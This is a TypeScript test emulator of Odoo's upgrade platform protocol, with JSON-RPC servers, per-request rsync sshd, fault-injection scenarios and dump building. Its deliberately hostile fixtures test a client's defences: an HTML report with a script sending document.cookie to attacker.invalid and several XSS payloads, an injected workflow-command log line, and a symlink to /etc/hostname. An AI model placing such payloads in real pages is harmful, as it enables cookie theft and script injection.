// An emulator of the protocol of Odoo's own upgrade script (platform-protocols.md, section 2,
// and the script's own behaviour): an entry server (create, wipe, status for resumes) on
// 127.0.0.1, and a node that holds the requests (status, transfers, process, logs) on a
// loopback address of its own at port 443 (80 without TLS), so `host_uri` is a bare host as
// the script needs: it calls https://<host_uri>/... and rsyncs to odoo@<host_uri>. Per request
// a real OpenSSH sshd in rsync mode is the data server, reached at that same address through a
// small TCP relay that can cut a transfer once. A request stays `new` until `process`; then
// `pending`, `progress` and the outcome follow the clock. Processing restores the upload into
// the emulator's PostgreSQL, marks it and dumps it again as a directory dump (postgres.ts,
// upgrade-dump.ts); without PostgreSQL the result is a marked copy. Tokens never enter `records`.
import { createServer as createHttpServer, STATUS_CODES, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import net from 'node:net';
import { createHash, randomBytes } from 'node:crypto';
import { createReadStream, createWriteStream } from 'node:fs';
import { cp, mkdir, readFile, readdir, rm, stat, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { pipeline } from 'node:stream/promises';
import { createGzip } from 'node:zlib';
import ssh2 from 'ssh2';
import { ed25519KeyPair, startSshd, type Sshd } from './sshd.ts';
import { ensureCerts, issueServerCert } from './certs.ts';
import { throttle } from './throttle.ts';
import { EmulatorPostgres, chownTree } from './postgres.ts';
import { upgradeToDirectory, uploadKind } from './upgrade-dump.ts';

export type RpcOutcome = 'done' | 'failed' | 'cancelled';

export interface RpcScenario {
  outcome?: RpcOutcome;
  reason?: string;
  pgIncompatible?: boolean;
  /** A warning sent back by create. */
  info?: string;
  /** transfer/start answers known_hosts lines for another key than the data server's. */
  wrongKnownHosts?: boolean;
  /** The first data connection that moves more than CUT_AFTER_BYTES is cut (once per scenario). */
  cutTransferOnce?: boolean;
  /**
   * The next `count` calls of `endpoint` ('status', 'process', ... or '*', without the upgrade/request/
   * prefix) get no answer: 'reset' reads the call and destroys the connection; 'hang' holds it
   * unanswered until the client gives up.
   */
  dropCalls?: Array<{ endpoint: string; count: number; how: 'reset' | 'hang' }>;
  /** The data relay moves at most this many bytes per second each way (a slow link). */
  throttleBytesPerSec?: number;
  /**
   * Requests processed while this is set stay `pending` until `release()`: a test that needs a
   * request still queued (a resume) waits for an event, not for a long timer.
   */
  holdPending?: boolean;
}

export interface RpcTiming {
  pendingMs: number; // after process, before progress
  progressMs: number; // progress, before the outcome
}

export interface RpcEmulatorOptions {
  tls?: boolean;
  certDir?: string;
  timing?: Partial<RpcTiming>;
  scenario?: RpcScenario;
  log?: (line: string) => void;
  /** System user of the data servers (Odoo's is `odoo`). */
  dataUser?: string;
  /** The node's loopback address (default: a random free 127.x.y.z). */
  nodeAddress?: string;
  /** The node's port (default 443 with TLS, 80 without; an ephemeral one when those are refused). */
  nodePort?: number;
  /**
   * PostgreSQL for real upgraded dumps: false = always marked copies; true (default) = a scratch server of
   * its own, started at the first create and stopped at close; an EmulatorPostgres = that one, shared with
   * other emulators of the process (its owner closes it).
   */
  postgres?: boolean | EmulatorPostgres;
  /** The main server's port on 127.0.0.1 (default ephemeral). */
  entryPort?: number;
}

export interface RpcRequest {
  id: number;
  token: string;
  contractHash: string;
  target: string;
  aim: string;
  actuator: string;
  apiVersion: string;
  envVars: string[];
  sshKey: string;
  createdAt: number;
  uploadedAt?: number;
  processedAt?: number;
  /** Held in `pending` (scenario holdPending) until releasedAt. */
  held?: boolean;
  releasedAt?: number;
  builtAt?: number;
  buildError?: string;
  outcome: RpcOutcome;
  reason?: string;
  pgIncompatible: boolean;
  timing: RpcTiming;
  dumpName: string;
  /** What arrived: origin<ext> or the origin.dump/ folder. */
  upload?: { name: string; directory: boolean; bytes: number };
  transfers: Array<{ type: 'upload' | 'download'; startedAt: number; stoppedAt?: number }>;
  wiped: boolean;
  /** The host folder the data server shows as /data (while it runs). */
  dataDir?: string;
  logText: string;
  /** Set when the upgraded dump is a marked copy of the upload, not a real dump: why. */
  markedCopy?: string;
}

export interface RpcCallRecord {
  at: number;
  listener: 'entry' | 'node' | 'data';
  method: string;
  endpoint: string;
  httpStatus: number;
  requestId?: number;
  params?: string[]; // names only
  transferType?: string;
  range?: string;
  /** The refusal sent back, if any. */
  error?: string;
  /** Data connections: cut by the relay (scenario cutTransferOnce), and bytes moved both ways. */
  cut?: boolean;
  bytes?: number;
}

export interface RpcEmulator {
  url: string; // the entry server: Odoo's script takes it as UPGRADE_SERVER_NAME
  nodeUrl: string; // the node create assigns
  /** What create and status answer as assigned_host_uri / host_uri: a bare host (host:port only when 443 was refused). */
  hostUri: string;
  caFile?: string;
  requests: Map<string, RpcRequest>; // by token
  records: RpcCallRecord[];
  setScenario(s: RpcScenario): void;
  /** Ends the `pending` of held requests (scenario holdPending): the one with this token, or all. */
  release(token?: string): void;
  close(): Promise<void>;
}

export const CUT_AFTER_BYTES = 256 * 1024;
const MAX_BODY = 1024 * 1024;
const ENTRY_ROUTES = new Set(['upgrade/request/create', 'upgrade/request/wipe', 'upgrade/request/status']);
export const MARKER_FILE = 'EMULATOR-MARKED-COPY.txt';
const NODE_ROUTES = new Set([
  'upgrade/request/status', 'upgrade/request/transfer/start', 'upgrade/request/transfer/stop', 'upgrade/request/process',
]);
const UPLOAD_NAMES = ['origin.dump', 'origin.sql', 'origin.sql.gz', 'origin.zip'];

/** A refusal the platform sends as `result.error`. */
class Refusal extends Error {}
/** An exception on the platform, sent as a JSON-RPC `error`. */
class Fault extends Error {}

type Facts = Pick<RpcRequest, 'uploadedAt' | 'processedAt' | 'held' | 'releasedAt' | 'builtAt' | 'buildError' | 'outcome' | 'timing'>;

/** When `progress` starts (Infinity while held), once `process` was called. */
function progressStart(r: Facts & { processedAt: number }): number {
  if (r.held) return r.releasedAt === undefined ? Infinity : Math.max(r.releasedAt, r.processedAt);
  return r.processedAt + r.timing.pendingMs;
}

/** A request's state at `now`: a pure function of the recorded facts and the clock. */
export function rpcStateAt(r: Facts, now: number): string {
  // Uploaded or not, a request is `new` until `process`: `pending` is the queue after it.
  if (r.uploadedAt === undefined || r.processedAt === undefined) return 'new';
  const progressAt = progressStart(r as Facts & { processedAt: number });
  if (now < progressAt) return 'pending';
  if (now < progressAt + r.timing.progressMs) return 'progress';
  if (r.buildError) return 'failed';
  if (r.outcome === 'done' && r.builtAt === undefined) return 'progress';
  return r.outcome;
}

/** How much of the log is visible at `now`: none while pending, growing during progress. */
export function visibleLog(r: RpcRequest, now: number): Buffer {
  const full = Buffer.from(r.logText);
  if (r.processedAt === undefined) return Buffer.alloc(0);
  const progressAt = progressStart(r as RpcRequest & { processedAt: number });
  if (now < progressAt) return Buffer.alloc(0);
  const state = rpcStateAt(r, now);
  if (state !== 'progress') return full;
  const lines = r.logText.split('\n');
  const shown = Math.max(1, Math.floor((lines.length - 1) * Math.min(1, (now - progressAt) / Math.max(1, r.timing.progressMs))));
  return Buffer.from(lines.slice(0, shown).map((l) => `${l}\n`).join(''));
}

function makeLog(r: RpcRequest): string {
  const t0 = new Date(r.processedAt ?? Date.now());
  const stamp = (i: number) => new Date(t0.getTime() + i * 1000).toISOString().replace('T', ' ').slice(0, 19);
  const lines = [
    `INFO upgrade: request ${r.id}: upgrading to ${r.target} (${r.aim})`,
    'INFO odoo.modules.loading: loading 1 modules...',
    'INFO odoo.modules.migration: module base: Running migration [>pre] base/0.0.0/pre-models.py',
    'INFO odoo.modules.loading: loading 142 modules...',
    'INFO odoo.modules.migration: module sale: Running migration [>post] sale/1.2/post-migrate.py',
    '::warning::a line from the platform that looks like a workflow command',
    'WARNING odoo.addons.base.models.ir_ui_view: <script>alert("view")</script> could not be validated',
    'INFO odoo.modules.migration: module stock: Running migration [>end] stock/1.1/end-cleanup.py',
  ];
  if (r.outcome === 'failed') lines.push(`ERROR upgrade: ${r.reason ?? 'the upgrade failed'}`);
  else if (r.outcome === 'cancelled') lines.push('INFO upgrade: the request was cancelled');
  else lines.push('INFO upgrade: upgrade done, dumping the database');
  return `${lines.map((l, i) => `${stamp(i)} ${l}`).join('\n')}\n`;
}

const REPORT_HTML = `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Upgrade report</title>
<script>fetch('https://attacker.invalid/?c=' + document.cookie)</script></head>
<body onload="alert('report')">
<h1>Upgrade report</h1>
<p>Modules upgraded: base, sale, stock.</p>
<img src="x" onerror="alert('img')">
<a href="javascript:alert('link')">details</a>
<iframe src="https://attacker.invalid/frame"></iframe>
<p>A note with ]]&gt; and <b>markup</b> and a backtick \` and a pipe | for tables.</p>
</body></html>
`;

const FILESTORE: Array<[string, string]> = [
  ['3f/3f786850e387550fdab836ed7e6dc881de23001b', 'a'],
  ['89/89e6c98d92887913cadf06b2adb97f26cde4849b', 'attachment two\n'],
  ['e9/e9d71f5ee7c92d6dc9e92ffdad17b8bd49418f98', 'b'.repeat(3000)],
];

function textHash(s: string): string {
  return createHash('sha256').update(s).digest('hex');
}

/** The public key a create sends, as the platform would check it. */
function publicKeyProblem(text: string): string | undefined {
  const parsed = ssh2.utils.parseKey(text);
  if (parsed instanceof Error) return `ssh_key is not a public key: ${parsed.message}`;
  const key = Array.isArray(parsed) ? parsed[0] : parsed;
  if (!key) return 'ssh_key is empty';
  if (key.isPrivateKey()) return 'ssh_key holds a private key';
  return undefined;
}

interface DataServer {
  sshd: Sshd;
  relay: net.Server;
  port: number;
  sockets: Set<net.Socket>;
}

export async function startRpcEmulator(opts: RpcEmulatorOptions = {}): Promise<RpcEmulator> {
  const log = opts.log ?? (() => {});
  const timing: RpcTiming = { pendingMs: 300, progressMs: 1200, ...opts.timing };
  const dataUser = opts.dataUser ?? 'odoo';
  let scenario: RpcScenario = { ...opts.scenario };
  let cutArmed = !!scenario.cutTransferOnce;
  let dropsLeft = (scenario.dropCalls ?? []).map((d) => Math.max(0, Math.floor(d.count)));
  const takeDrop = (endpoint: string): 'reset' | 'hang' | undefined => {
    const list = scenario.dropCalls ?? [];
    const short = endpoint.replace(/^upgrade\/request\//, '');
    for (let i = 0; i < list.length; i++) {
      if ((list[i]!.endpoint === short || list[i]!.endpoint === '*') && dropsLeft[i]! > 0) {
        dropsLeft[i]!--;
        return list[i]!.how;
      }
    }
    return undefined;
  };
  const requests = new Map<string, RpcRequest>();
  const records: RpcCallRecord[] = [];
  const dataServers = new Map<number, Promise<DataServer>>();
  const builds = new Set<Promise<void>>();
  let nextId = 1001;
  let nodeHost = ''; // the host_uri answered
  let nodeAddress = ''; // the node's IP, also the data servers'
  let closed = false;
  const ownsPostgres = opts.postgres === undefined || opts.postgres === true;
  const postgres = ownsPostgres ? new EmulatorPostgres(log) : opts.postgres instanceof EmulatorPostgres ? opts.postgres : undefined;

  const certs = opts.tls ? await ensureCerts(opts.certDir) : undefined;
  let tlsOptions: { key: Buffer; cert: Buffer } | undefined;

  // --- data servers -------------------------------------------------------------------

  function dataServerOf(r: RpcRequest): Promise<DataServer> {
    let p = dataServers.get(r.id);
    if (!p) {
      p = startDataServer(r);
      dataServers.set(r.id, p);
      p.catch(() => dataServers.delete(r.id));
    }
    return p;
  }

  async function startDataServer(r: RpcRequest): Promise<DataServer> {
    const sshd = await startSshd({ mode: 'rsync', authorizedKeys: r.sshKey, user: dataUser, log: (l) => log(`[sshd ${r.id}] ${l}`) });
    r.dataDir = sshd.root;
    const sockets = new Set<net.Socket>();
    const relay = net.createServer((client) => relayConnection(client, sshd.port, sockets, r));
    try {
      await new Promise<void>((resolve, reject) => {
        relay.once('error', reject);
        relay.listen(0, nodeAddress, () => resolve());
      });
    } catch (err) {
      await sshd.close();
      throw err;
    }
    const port = (relay.address() as net.AddressInfo).port;
    return { sshd, relay, port, sockets };
  }

  // The relay stands where the network would be: it can break one transfer mid-way.
  function relayConnection(client: net.Socket, port: number, sockets: Set<net.Socket>, r: RpcRequest): void {
    const upstream = net.connect(port, '127.0.0.1');
    sockets.add(client);
    sockets.add(upstream);
    let moved = 0;
    let total = 0;
    let recorded = false;
    let wasCut = false;
    const drop = () => {
      if (!recorded) {
        recorded = true;
        records.push({ at: Date.now(), listener: 'data', method: 'TCP', endpoint: 'relay', httpStatus: 0, requestId: r.id, bytes: total, ...(wasCut ? { cut: true } : {}) });
      }
      sockets.delete(client);
      sockets.delete(upstream);
      client.destroy();
      upstream.destroy();
    };
    const count = (n: number) => {
      total += n;
      if (!cutArmed) return;
      moved += n;
      if (moved > CUT_AFTER_BYTES) {
        cutArmed = false;
        wasCut = true;
        log(`request ${r.id}: cutting the data connection after ${moved} bytes`);
        client.resetAndDestroy();
        drop();
      }
    };
    client.on('data', (d: Buffer) => count(d.length));
    upstream.on('data', (d: Buffer) => count(d.length));
    const rate = scenario.throttleBytesPerSec;
    if (rate) {
      throttle(client, rate);
      throttle(upstream, rate);
    }
    client.pipe(upstream);
    upstream.pipe(client);
    client.on('error', drop);
    upstream.on('error', drop);
    client.on('close', drop);
    upstream.on('close', drop);
  }

  async function stopDataServer(r: RpcRequest): Promise<void> {
    const p = dataServers.get(r.id);
    dataServers.delete(r.id);
    const ds = await p?.catch(() => undefined);
    if (!ds) return;
    for (const s of ds.sockets) s.destroy();
    await new Promise<void>((resolve) => ds.relay.close(() => resolve()));
    await ds.sshd.close();
  }

  function knownHostsFor(ds: DataServer): string {
    // Named as the script names the host: the bare host_uri, with the port from transfer/start.
    const [, type, blob] = ds.sshd.knownHostsLine.split(' ');
    if (!scenario.wrongKnownHosts) return `[${nodeAddress}]:${ds.port} ${type} ${blob}\n`;
    const other = ed25519KeyPair();
    return `[${nodeAddress}]:${ds.port} ${other.public.split(' ').slice(0, 2).join(' ')}\n`;
  }

  // --- results ---------------------------------------------------------------------------

  async function findUpload(dir: string): Promise<RpcRequest['upload']> {
    for (const name of UPLOAD_NAMES) {
      const st = await stat(path.join(dir, name)).catch(() => undefined);
      if (!st) continue;
      if (st.isDirectory()) {
        const toc = await stat(path.join(dir, name, 'toc.dat')).catch(() => undefined);
        if (!toc?.isFile()) continue;
        let bytes = 0;
        for (const f of await readdir(path.join(dir, name))) bytes += (await stat(path.join(dir, name, f))).size;
        return { name, directory: true, bytes };
      }
      if (st.isFile() && st.size > 0) return { name, directory: false, bytes: st.size };
    }
    return undefined;
  }

  // The upgraded dump: the upload restored into the emulator's PostgreSQL, marked, dumped
  // again in directory format. Without PostgreSQL, or when the upload does not restore, a
  // marked copy: a directory dump is copied as it came, a file goes gzip-compressed into one
  // data file behind a stand-in table of contents, with MARKER_FILE saying why.
  async function build(r: RpcRequest): Promise<void> {
    const dir = r.dataDir;
    const up = r.upload;
    if (!dir || !up) throw new Error('nothing uploaded');
    const results = ['upgrade.log'];
    if (r.outcome === 'done') {
      const out = path.join(dir, r.dumpName);
      await rm(out, { recursive: true, force: true });
      const pg = (await uploadKind(path.join(dir, up.name))) === 'unknown'
        ? { missing: 'the upload is not a dump PostgreSQL can read' }
        : postgres ? await postgres.get() : { missing: 'PostgreSQL is turned off for this emulator' };
      if ('server' in pg) {
        try {
          await upgradeToDirectory(pg.server, { path: path.join(dir, up.name), requestId: r.id, target: r.target }, out);
        } catch (err) {
          r.markedCopy = `the upload could not be restored into PostgreSQL ${pg.server.major}: ${(err as Error).message}`;
          await rm(out, { recursive: true, force: true });
        }
      } else {
        r.markedCopy = pg.missing;
      }
      if (r.markedCopy) {
        log(`request ${r.id}: the upgraded dump is a marked copy: ${r.markedCopy}`);
        await markedCopy(path.join(dir, up.name), up.directory, out, r.markedCopy);
      }
      await writeResults(r, dir);
      results.push(r.dumpName, 'filestore', 'upgrade-report.html');
    }
    if (r.markedCopy) r.logText += `${new Date().toISOString().replace('T', ' ').slice(0, 19)} WARNING upgrade: the upgraded dump is a marked copy of the upload, not a real dump: ${r.markedCopy}\n`;
    await writeFile(path.join(dir, 'upgrade.log'), r.logText, { mode: 0o644 });
    // The script downloads as the data user: everything it fetches must be that user's.
    const owner = await stat(dir);
    for (const name of results) await chownTree(path.join(dir, name), owner.uid, owner.gid);
  }

  async function markedCopy(upload: string, directory: boolean, out: string, why: string): Promise<void> {
    if (directory) {
      await cp(upload, out, { recursive: true });
    } else {
      await mkdir(out, { mode: 0o755 });
      await writeFile(path.join(out, 'toc.dat'), Buffer.concat([Buffer.from('PGDMP'), Buffer.from(`\nemulated table of contents for ${path.basename(upload)}\n`)]));
      await pipeline(createReadStream(upload), createGzip(), createWriteStream(path.join(out, '3001.dat.gz')));
    }
    await writeFile(path.join(out, MARKER_FILE), `This is not a real upgraded dump: the Odoo Upgrade Platform emulator copied the upload because ${why}.\n`);
  }

  async function writeResults(r: RpcRequest, dir: string): Promise<void> {
    for (const [rel, content] of FILESTORE) {
      const p = path.join(dir, 'filestore', rel);
      await mkdir(path.dirname(p), { recursive: true, mode: 0o755 });
      await writeFile(p, content, { mode: 0o644 });
    }
    // A hostile server could hand out links to the runner's own files: clients must not follow them.
    await symlink('/etc/hostname', path.join(dir, 'filestore', '3f', 'link-to-etc'));
    await writeFile(path.join(dir, 'upgrade-report.html'), REPORT_HTML, { mode: 0o644 });
  }

  function startBuild(r: RpcRequest): void {
    const p = build(r)
      .then(() => {
        r.builtAt = Date.now();
      })
      .catch((err: Error) => {
        r.buildError = err.message;
        log(`request ${r.id}: building the results failed: ${err.message}`);
      })
      .finally(() => builds.delete(p));
    builds.add(p);
  }

  // --- endpoints -------------------------------------------------------------------------

  function requestOf(params: Record<string, unknown>): RpcRequest {
    const token = typeof params.token === 'string' ? params.token : '';
    const r = requests.get(token);
    if (!r) throw new Fault('Unknown upgrade request token');
    return r;
  }

  function statusOf(r: RpcRequest): Record<string, unknown> {
    const state = rpcStateAt(r, Date.now());
    const out: Record<string, unknown> = { status: state, host_uri: nodeHost, archived: r.wiped };
    if (state === 'failed') out.reason = r.buildError ? `The upgrade could not produce its results: ${r.buildError}` : (r.reason ?? 'The upgrade failed.');
    if (state === 'cancelled' && r.reason) out.reason = r.reason;
    return out;
  }

  async function create(params: Record<string, unknown>): Promise<Record<string, unknown>> {
    const contract = typeof params.contract === 'string' ? params.contract.trim() : '';
    if (!contract || /invalid/i.test(contract)) throw new Refusal('The subscription code you entered is not valid or has expired.');
    const target = String(params.target ?? '');
    const m = /^(?:saas~)?(\d+)\.\d+$/.exec(target);
    if (!m) throw new Fault(`Invalid target version: ${target.slice(0, 40)}`);
    if (Number(m[1]) < 10) throw new Fault(`Upgrading to version ${target} is not supported anymore.`);
    if (params.aim !== 'test' && params.aim !== 'production') throw new Refusal('The aim must be test or production.');
    const envVars = params.env_vars ?? [];
    if (!Array.isArray(envVars) || envVars.some((v) => typeof v !== 'string' || !/^\w+=/.test(v))) {
      throw new Refusal('env_vars must be a list of NAME=value strings.');
    }
    const sshKey = typeof params.ssh_key === 'string' ? params.ssh_key.trim() : '';
    const keyProblem = publicKeyProblem(sshKey);
    if (keyProblem) throw new Refusal(keyProblem);
    if (params.api_version !== '0.2') throw new Refusal(`Unsupported API version ${String(params.api_version)}: update the upgrade script.`);
    const r: RpcRequest = {
      id: nextId++,
      token: randomBytes(24).toString('base64url'),
      contractHash: textHash(contract),
      target,
      aim: params.aim,
      actuator: String(params.actuator ?? ''),
      apiVersion: '0.2',
      envVars: envVars as string[],
      sshKey,
      createdAt: Date.now(),
      outcome: scenario.outcome ?? 'done',
      reason: scenario.reason,
      pgIncompatible: !!scenario.pgIncompatible,
      timing,
      dumpName: 'upgraded.dump',
      transfers: [],
      wiped: false,
      logText: '',
    };
    requests.set(r.token, r);
    const result: Record<string, unknown> = { request_id: r.id, token: r.token, assigned_host_uri: nodeHost };
    if (scenario.info) result.info = scenario.info;
    return result;
  }

  async function transferStart(r: RpcRequest, params: Record<string, unknown>): Promise<Record<string, unknown>> {
    const type = params.transfer_type;
    if (type !== 'upload' && type !== 'download') throw new Refusal('transfer_type must be upload or download.');
    if (r.wiped) throw new Refusal('This request was wiped: its data is gone.');
    const state = rpcStateAt(r, Date.now());
    if (type === 'upload' && state !== 'new') throw new Refusal(`The dump cannot be uploaded in state ${state}: the request is already being processed.`);
    if (type === 'download' && state !== 'done') throw new Refusal(`Nothing to download in state ${state}.`);
    if (type === 'upload') void postgres?.get(); // a dump is on its way: the server starts while it arrives
    const ds = await dataServerOf(r);
    r.transfers.push({ type, startedAt: Date.now() });
    const result: Record<string, unknown> = { ssh_port: ds.port, known_hosts: knownHostsFor(ds) };
    if (type === 'download') result.dump_name = r.dumpName;
    return result;
  }

  async function transferStop(r: RpcRequest): Promise<Record<string, unknown>> {
    const t = r.transfers.at(-1);
    if (!t || t.stoppedAt !== undefined) throw new Refusal('No transfer in progress.');
    t.stoppedAt = Date.now();
    if (t.type === 'upload') {
      const up = r.dataDir ? await findUpload(r.dataDir) : undefined;
      if (!up) throw new Refusal('No database dump was received (expected /data/origin.dump/, origin.sql, origin.sql.gz, origin.zip or origin.dump).');
      r.upload = up;
      r.uploadedAt = Date.now();
    }
    return {};
  }

  function processRequest(r: RpcRequest): Record<string, unknown> {
    if (r.wiped) throw new Refusal('This request was wiped: its data is gone.');
    if (r.uploadedAt === undefined) throw new Refusal('Upload the database dump before processing it.');
    if (r.processedAt === undefined) {
      r.processedAt = Date.now();
      if (scenario.holdPending) r.held = true;
      r.logText = makeLog(r);
      startBuild(r);
    }
    return { is_pg_version_compatible: !r.pgIncompatible };
  }

  // Contract-wide, as the script's help says: every request of the contract the token's
  // request belongs to ("use the token of the last request").
  async function wipe(params: Record<string, unknown>): Promise<Record<string, unknown>> {
    const r = requestOf(params);
    const contract = typeof params.contract === 'string' ? params.contract.trim() : '';
    if (textHash(contract) !== r.contractHash) return { wiped: [], failed: [r.id] };
    await Promise.all([...builds]);
    const wiped: number[] = [];
    const failed: number[] = [];
    for (const each of requests.values()) {
      if (each.contractHash !== r.contractHash || each.wiped) continue;
      try {
        const dir = each.dataDir;
        await stopDataServer(each);
        if (dir) await rm(dir, { recursive: true, force: true });
        each.wiped = true;
        wiped.push(each.id);
      } catch (err) {
        log(`request ${each.id}: wipe failed: ${(err as Error).message}`);
        failed.push(each.id);
      }
    }
    return { wiped, failed };
  }

  async function dispatch(listener: 'entry' | 'node', endpoint: string, params: Record<string, unknown>, rec: RpcCallRecord) {
    if (endpoint === 'upgrade/request/create') {
      const result = await create(params);
      rec.requestId = result.request_id as number;
      return result;
    }
    if (endpoint === 'upgrade/request/wipe') return wipe(params);
    const r = requestOf(params);
    rec.requestId = r.id;
    switch (endpoint) {
      case 'upgrade/request/status':
        return statusOf(r);
      case 'upgrade/request/transfer/start':
        rec.transferType = String(params.transfer_type);
        return transferStart(r, params);
      case 'upgrade/request/transfer/stop':
        return transferStop(r);
      case 'upgrade/request/process':
        return processRequest(r);
      default:
        throw new Fault(`no handler for ${endpoint} on the ${listener}`);
    }
  }

  // --- HTTP ------------------------------------------------------------------------------

  function send(res: ServerResponse, rec: RpcCallRecord, status: number, type: string, body: string | Buffer, headers: Record<string, string | number> = {}) {
    const buf = Buffer.isBuffer(body) ? body : Buffer.from(body);
    rec.httpStatus = status;
    res.writeHead(status, { 'Content-Type': type, 'Content-Length': buf.length, 'Cache-Control': 'no-store', ...headers });
    res.end(buf);
  }

  function sendPage(res: ServerResponse, rec: RpcCallRecord, status: number) {
    const title = `${status} ${STATUS_CODES[status] ?? 'Error'}`;
    send(res, rec, status, 'text/html; charset=utf-8', `<!DOCTYPE html>\n<html><head><title>${title}</title></head><body><h1>${title}</h1></body></html>\n`);
  }

  function readBody(req: IncomingMessage): Promise<Buffer | undefined> {
    return new Promise((resolve, reject) => {
      const chunks: Buffer[] = [];
      let size = 0;
      req.on('data', (c: Buffer) => {
        size += c.length;
        if (size <= MAX_BODY) chunks.push(c);
      });
      req.on('end', () => resolve(size > MAX_BODY ? undefined : Buffer.concat(chunks)));
      req.on('error', reject);
    });
  }

  function serveLogs(req: IncomingMessage, res: ServerResponse, url: URL, rec: RpcCallRecord) {
    const r = requests.get(url.searchParams.get('token') ?? '');
    if (!r) return send(res, rec, 404, 'text/plain; charset=utf-8', 'Unknown upgrade request token\n');
    rec.requestId = r.id;
    const text = visibleLog(r, Date.now());
    const range = req.headers.range;
    rec.range = range;
    const m = range ? /^bytes=(\d+)-$/.exec(range.trim()) : null;
    if (!m) return send(res, rec, 200, 'text/plain; charset=utf-8', text);
    const start = Number(m[1]);
    // Past the end (nothing new yet): an empty answer, which Odoo's script can read.
    if (start >= text.length) return send(res, rec, 200, 'text/plain; charset=utf-8', Buffer.alloc(0));
    send(res, rec, 206, 'text/plain; charset=utf-8', text.subarray(start), { 'Content-Range': `bytes ${start}-${text.length - 1}/${text.length}` });
  }

  async function handle(listener: 'entry' | 'node', req: IncomingMessage, res: ServerResponse) {
    const url = new URL(req.url ?? '/', 'http://emulator');
    const endpoint = url.pathname.replace(/^\/+/, '').replace(/\/+$/, '');
    const rec: RpcCallRecord = { at: Date.now(), listener, method: req.method ?? '', endpoint, httpStatus: 0 };
    records.push(rec);
    if (listener === 'node' && endpoint === 'upgrade/request/logs') {
      req.resume();
      if (req.method !== 'GET' && req.method !== 'HEAD') return sendPage(res, rec, 405);
      return serveLogs(req, res, url, rec);
    }
    const routes = listener === 'entry' ? ENTRY_ROUTES : NODE_ROUTES;
    if (!routes.has(endpoint)) {
      req.resume();
      return sendPage(res, rec, 404);
    }
    if (req.method !== 'POST') {
      req.resume();
      return sendPage(res, rec, 405);
    }
    const raw = await readBody(req);
    const drop = takeDrop(endpoint);
    if (drop === 'reset') {
      rec.error = 'connection reset (scenario)';
      req.socket.destroy();
      return;
    }
    if (drop === 'hang') {
      rec.error = 'left unanswered (scenario)';
      if (!res.destroyed) await new Promise<void>((resolve) => res.once('close', () => resolve()));
      return;
    }
    let id: unknown = null;
    const answer = (payload: Record<string, unknown>) =>
      send(res, rec, 200, 'application/json; charset=utf-8', JSON.stringify({ jsonrpc: '2.0', id, ...payload }));
    const fault = (message: string) => {
      rec.error = message;
      answer({ error: { code: 200, message: 'Odoo Server Error', data: { name: 'odoo.exceptions.UserError', message, arguments: [message] } } });
    };
    let body: { params?: unknown; id?: unknown } | undefined;
    try {
      body = raw ? JSON.parse(raw.toString('utf8')) : undefined;
    } catch {
      body = undefined;
    }
    if (!body || typeof body !== 'object' || !body.params || typeof body.params !== 'object' || Array.isArray(body.params)) {
      return fault('Invalid JSON-RPC request: a JSON object with params is expected');
    }
    id = body.id ?? null;
    const params = body.params as Record<string, unknown>;
    rec.params = Object.keys(params);
    try {
      const result = await dispatch(listener, endpoint, params, rec);
      answer({ result });
    } catch (err) {
      if (err instanceof Refusal) {
        rec.error = err.message;
        return answer({ result: { error: err.message } });
      }
      fault(err instanceof Fault ? err.message : `Internal error: ${(err as Error).message}`);
    }
  }

  function listen(listener: 'entry' | 'node', address: string, port: number): Promise<{ server: Server; port: number }> {
    const onRequest = (req: IncomingMessage, res: ServerResponse) => {
      handle(listener, req, res).catch((err: Error) => {
        log(`${listener}: ${err.message}`);
        if (!res.headersSent) res.writeHead(500).end();
      });
    };
    const server = tlsOptions ? createHttpsServer(tlsOptions, onRequest) : createHttpServer(onRequest);
    return new Promise((resolve, reject) => {
      server.once('error', reject);
      server.listen(port, address, () => resolve({ server, port: (server.address() as net.AddressInfo).port }));
    });
  }

  // The node: a loopback address of its own at the standard port, so host_uri is a bare host.
  const standardPort = opts.nodePort ?? (opts.tls ? 443 : 80);
  let node: { server: Server; port: number } | undefined;
  for (let attempt = 1; !node; attempt++) {
    nodeAddress = opts.nodeAddress ?? randomLoopback();
    if (certs) tlsOptions = await issueServerCert(certs, [nodeAddress]);
    try {
      node = await listen('node', nodeAddress, standardPort);
    } catch (err) {
      const code = (err as NodeJS.ErrnoException).code;
      if (code === 'EADDRINUSE' && !opts.nodeAddress && attempt < 20) continue;
      if (code !== 'EACCES' && code !== 'EPERM') throw err;
      node = await listen('node', nodeAddress, 0);
      log(`the node cannot listen on port ${standardPort} (${code}: not root?): it listens on ${nodeAddress}:${node.port}, so host_uri carries a port and Odoo's own script cannot be used unchanged (the action accepts it)`);
    }
  }
  nodeHost = node.port === (opts.tls ? 443 : 80) ? nodeAddress : `${nodeAddress}:${node.port}`;
  const entry = await listen('entry', '127.0.0.1', opts.entryPort ?? 0).catch(async (err) => {
    node.server.close();
    throw err;
  });
  const scheme = tlsOptions ? 'https' : 'http';

  return {
    url: `${scheme}://127.0.0.1:${entry.port}`,
    nodeUrl: `${scheme}://${nodeHost}`,
    hostUri: nodeHost,
    caFile: certs?.caFile,
    requests,
    records,
    setScenario(s: RpcScenario) {
      scenario = { ...s };
      cutArmed = !!s.cutTransferOnce;
      dropsLeft = (s.dropCalls ?? []).map((d) => Math.max(0, Math.floor(d.count)));
    },
    release(token?: string) {
      const now = Date.now();
      for (const r of requests.values()) if (r.held && r.releasedAt === undefined && (token === undefined || r.token === token)) r.releasedAt = now;
    },
    async close() {
      if (closed) return;
      closed = true;
      for (const { server } of [entry, node]) {
        server.closeAllConnections();
        await new Promise<void>((resolve) => server.close(() => resolve()));
      }
      await Promise.all([...builds]);
      for (const r of requests.values()) await stopDataServer(r);
      if (ownsPostgres) await postgres?.close();
    },
  };
}

/** A random 127.x.y.z other than 127.0.0.1 (the whole 127/8 reaches loopback on Linux). */
function randomLoopback(): string {
  const b = randomBytes(3);
  return `127.${16 + (b[0]! % 224)}.${1 + (b[1]! % 254)}.${1 + (b[2]! % 254)}`;
}
